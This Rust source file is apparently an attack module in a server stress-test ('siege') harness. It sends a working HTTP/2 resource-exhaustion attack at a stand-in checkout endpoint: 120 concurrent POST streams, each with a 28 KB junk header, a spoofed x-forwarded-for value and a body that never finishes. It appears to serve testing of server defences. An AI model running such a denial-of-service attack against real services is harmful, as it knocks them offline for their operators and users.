//! Requests with large heads whose bodies never end: what is held of each is not its body.

use std::convert::Infallible;
use std::sync::Arc;

use anyhow::Context as _;
use bytes::Bytes;
use futures_util::StreamExt as _;
use futures_util::stream;
use http_body_util::StreamBody;
use hyper::Request;
use hyper::body::Frame;
use hyper::client::conn::http2;
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::siege::context::{ATTACKER, Context};

/// On one connection.
const STREAMS: usize = 120;

/// Just below what headers may have in all.
const HEADER: usize = 28 * 1024;

pub async fn send(context: Arc<Context>) -> anyhow::Result<()> {
    let stream = TcpStream::connect(context.server.address).await?;
    let (sender, connection) = http2::handshake(TokioExecutor::new(), TokioIo::new(stream)).await?;
    tokio::spawn(connection);
    let header: String = (0..HEADER).map(|_| char::from(rand::random_range(b'a'..=b'z'))).collect();
    let mut streams = JoinSet::new();
    loop {
        while streams.len() < STREAMS {
            let (mut sender, header, context) = (sender.clone(), header.clone(), context.clone());
            streams.spawn(async move {
                let first = Ok::<_, Infallible>(Frame::data(Bytes::from_static(b"{")));
                let body = StreamBody::new(stream::iter([first]).chain(stream::pending()));
                let request = Request::post("http://shop.example/api/storefront/1/checkout")
                    .header("content-type", "application/json")
                    .header("x-forwarded-for", ATTACKER)
                    .header("x-held", header)
                    .body(body)?;
                sender.ready().await?;
                let response = sender.send_request(request).await?;
                context.ledger.attack_came_to(response.status().as_str());
                anyhow::Ok(())
            });
        }
        streams.join_next().await.context("a stream")???;
    }
}
